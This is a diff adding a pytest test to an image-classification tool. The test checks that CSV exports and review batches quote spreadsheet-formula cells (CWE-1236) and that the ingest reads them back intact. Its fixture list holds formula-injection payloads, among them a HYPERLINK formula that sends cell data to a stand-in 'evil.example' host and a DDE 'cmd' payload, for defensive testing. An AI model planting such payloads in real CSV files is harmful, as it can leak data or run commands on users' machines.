@@ -331,3 +331,49 @@ def test_a_damaged_run_is_rewritten_by_running_its_run_id_again(tmp_path, tiny_m
     new = sorted(p.name for p in folder.glob("*.parquet"))
     assert len(new) == len(old) and not set(new) & set(old)  # the damaged run's files replaced, not kept
     assert "DAMAGED" not in CliRunner().invoke(main, ["runs", str(tmp_path / "out")]).output
+
+
+# Text a spreadsheet takes for a formula (CWE-1236): class names come from an archive's folder names.
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
+            "\t=1+1", "\r=1+1", "=1"]
+NUMBERS = ["-1", "+2.5", "-0.5e3"]  # labels that are numbers stay numbers
+
+
+def _formula_like(text: str) -> bool:
+    """The reference (OWASP's rule, written here): a cell a spreadsheet would evaluate."""
+    if not text or text[0] not in "=+-@\t\r\n":
+        return False
+    try:
+        float(text)
+        return False
+    except ValueError:
+        return True
+
+
+def test_csv_cells_a_spreadsheet_would_evaluate_are_quoted_and_come_back_as_they_were(tmp_path):
+    from imgclf_ray.review.ingest import parse_csv
+    from imgclf_ray.review.select import batch_csv
+
+    out = tmp_path / "out"
+    names = FORMULAS + NUMBERS
+    commit_run(out, "n", [{"label": name, "score": 0.5} for name in names], uri_prefix="file:///data/=x")
+    for args in (["export", str(out), "--to", "csv", "-o", "-"], ["labels", str(out), "--to", "csv"]):
+        result = CliRunner().invoke(main, args)
+        assert result.exit_code == 0, result.output
+        cells = [c for row in csv.reader(io.StringIO(result.output)) for c in row]
+        assert not [c for c in cells if _formula_like(c)], args
+        assert {c for c in cells if c in NUMBERS} == set(NUMBERS)  # not quoted
+        assert {c[1:] for c in cells if c.startswith("'")} >= set(FORMULAS)
+    # The review batch for a reviewer without Label Studio: the reviewer copies the model's label
+    # cell into `label` as the spreadsheet shows it; ingest reads the label it was.
+    rows = pa.table({"image_id": [f"{i:032x}" for i in range(len(names))], "uri": [f"/a/{n}.png" for n in names],
+                     "etag": names, "model_label": names, "score": [0.5] * len(names), "priority": [1.0] * len(names)})
+    written = list(csv.DictReader(io.StringIO(batch_csv(rows, "b1").decode())))
+    assert not [c for row in written for c in row.values() if _formula_like(c)]
+    text = io.StringIO()
+    writer = csv.DictWriter(text, fieldnames=list(written[0]))
+    writer.writeheader()
+    writer.writerows({**row, "label": row["model_label"]} for row in written)
+    parsed = parse_csv(text.getvalue())
+    # (a "|" separates the labels of a multilabel answer in a review CSV)
+    assert [a.labels for a in parsed.answers] == [[v.strip() for v in n.split("|")] for n in names]
